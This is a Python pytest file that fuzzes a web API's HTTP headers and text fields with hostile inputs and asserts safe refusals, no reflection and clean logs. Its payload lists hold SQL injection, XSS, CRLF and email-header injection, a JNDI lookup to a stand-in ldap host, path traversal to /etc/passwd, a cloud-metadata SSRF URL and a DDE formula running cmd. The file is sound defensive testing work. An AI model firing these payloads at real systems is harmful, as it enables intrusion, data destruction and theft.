"""Header fields and texts that are odd without being wrong: taken as text, or refused."""

import json
from typing import Any

import pytest

from tests.hostile.conftest import MARK, Range
from tests.support.marks import both_databases, on_postgresql
from tests.support.operations import Operation

ODD = {
    "nothing": "",
    "a space": " ",
    "a line end": f"{MARK}\r\nX-Injected: 1\r\n\r\nHTTP/1.1 200 OK",
    "a forged line of the log": f'{MARK}\n{{"event": "request", "status": 200}}',
    "an escape sequence": f"\x1b[2J\x1b[31m{MARK}\x07",
    "every control character": "".join(map(chr, range(1, 32))) + "\x7f\x85",
    "a NUL": f"{MARK}\x00",
    "half a surrogate pair": "\xed\xa0\x80",
    "no UTF-8": "\xff\xfe\xc3(",
    "a right-to-left override": "\u202e".encode().decode("latin-1"),
    "eight thousand letters": MARK * 1_100,
    "quotes": '"\'`\\"',
    "SQL": f"'; DROP TABLE users; -- {MARK}",
    "formats": "%s%n%x{0}{0.__class__}${7*7}{{7*7}}<%= 7*7 %>",
    "a look-up": f"${{jndi:ldap://{MARK}.example.com/a}}",
    "a script": f"<script>alert('{MARK}')</script>",
    "commas": ",,,,,,,,",
    "semicolons": ";;;;q=;=;",
    "a number": "9" * 400,
    "a date": "Sun, 99 Foo 99999 99:99:99 GMT",
    "a path": "../../../../etc/passwd",
    "a URL": f"http://169.254.169.254/{MARK}",
}

NAMES = (
    *("Accept", "Accept-Charset", "Accept-Encoding", "Accept-Language", "Authorization"),
    *("Cache-Control", "Connection", "Content-Disposition", "Content-Language", "Cookie", "Date"),
    *("DNT", "Expect", "Forwarded", "From", "Host", "If-Match", "If-Modified-Since"),
    *("If-None-Match", "If-Range", "If-Unmodified-Since", "Max-Forwards", "Origin", "Pragma"),
    *("Proxy-Authorization", "Range", "Referer", "Sec-Fetch-Site", "TE", "Trailer", "Upgrade"),
    *("User-Agent", "Via", "X-Correlation-ID", "X-Forwarded-For", "X-Forwarded-Host"),
    *("X-Forwarded-Prefix", "X-Forwarded-Proto", "X-Original-URL", "X-Real-IP", "X-Request-ID"),
    *("X-Rewrite-URL", "X-User-ID", "X-Remote-User", "Remote-User", "Script-Name", "X" * 100),
)


REFUSED = {"Authorization": 401, "Host": 400}
"""Values for the headers that have a meaning."""


def environ_name(name: str) -> str:
    return f"HTTP_{name.upper().replace('-', '_')}"


def test_no_header_field_makes_a_read_anything_else(range_: Range) -> None:
    """It is the same 200, or a refusal of the token or host; the log has one line of it."""
    (me,) = [o for o in range_.operations if str(o) == "GET /api/v1/users/me"]
    plain = range_.send(me).get_json()
    for name in NAMES:
        for kind, value in ODD.items():
            response = range_.send(me, environ={environ_name(name): value})
            assert response.status_code in (200, REFUSED.get(name)), (name, kind)
            if response.status_code == 200:
                assert response.get_json() == plain, (name, kind)
            # A listed origin is answered with itself; none is listed.
            assert MARK not in str(response.headers), (name, kind)
            assert "X-Injected" not in response.headers
    assert_only_the_log_knows(range_)


def assert_only_the_log_knows(range_: Range) -> None:
    """Like `assert_nothing_came_of_it`, where the correlation ids were not our own to choose."""
    lines = range_.lines()
    assert [line["event"] for line in lines] == ["request"] * range_.sent
    assert MARK not in json.dumps(lines)
    assert range_.stored() == range_.stored_before


@both_databases
@pytest.mark.parametrize("name", ["User-Agent", "X-Correlation-ID", "X-Forwarded-For"])
def test_what_is_kept_of_a_request_is_harmless(range_: Range, name: str) -> None:
    """Sessions and the audit trail hold these."""
    for kind, value in ODD.items():
        body = {"identifier": "victim", "password": "correct horse battery staple"}
        response = range_.open(
            "POST", "/api/v1/auth/login", json=body, environ={environ_name(name): value}
        )
        assert response.status_code == 200, kind
    sessions = range_.open("GET", f"/api/v1/users/{range_.victim.id}/sessions").get_json()["items"]
    events = range_.open(
        "GET", "/api/v1/audit-events", environ={"QUERY_STRING": "limit=200"}
    ).get_json()
    for kept in (*sessions, *events["items"]):
        agent, correlation_id = kept["user_agent"] or "", kept.get("correlation_id") or ""
        assert len(agent) <= 512
        assert not any(ord(letter) < 32 for letter in agent)
        assert correlation_id == correlation_id.strip()
        assert len(correlation_id) <= 64
    assert len(sessions) > len(ODD)


TEXTS = [
    f"{MARK}\n\r\t",
    f"\x1b[2J{MARK}",
    "\x7f\x80\x9f",
    "\u202e\u2066\ufeff\u200b",
    "' OR '1'='1' --",
    "'; DROP TABLE users; --",
    "%s%n%x{0}{settings}${7*7}{{7*7}}",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "a" * 10_000,
    "\U0010ffff\ufffe\uffff",
    "e" + "\u0301" * 200,
    "ﷺ" * 60,
    " ",
    "İıſK",
    "\\",
    '"',
    "%00",
    "-1",
    "null",
    "x@[127.0.0.1]",
    f"{MARK}@example.com\r\nBcc: a@example.com",
    "=cmd|' /C calc'!A0",
]


def texts_of(operation: Operation) -> list[str]:
    def is_text(schema: dict[str, Any]) -> bool:
        return "string" in schema.get("type", ())

    return [name for name, schema in operation.fields.items() if is_text(schema)]


@on_postgresql
def test_odd_text_is_text_or_refused_and_never_a_fault(range_: Range) -> None:
    """Some of it is a fine display name; none of it may do anything.

    PostgreSQL refuses more texts than SQLite, so this is about it alone.
    """
    for operation in range_.operations:
        for field in texts_of(operation):
            for number, text in enumerate(TEXTS):
                body = operation.example | {field: text}
                if "email" in body and field != "email":
                    body["email"] = f"{field}{number}@example.com"
                response = range_.send(operation, json=body)
                assert response.status_code < 500, (str(operation), field, text)
                if response.status_code >= 400:
                    assert response.headers["Content-Type"] == "application/problem+json"
                    assert MARK not in response.get_data(as_text=True)
    lines = range_.lines()
    assert [line["event"] for line in lines].count("request") == range_.sent
    assert {line["level"] for line in lines} <= {"INFO", "WARNING"}
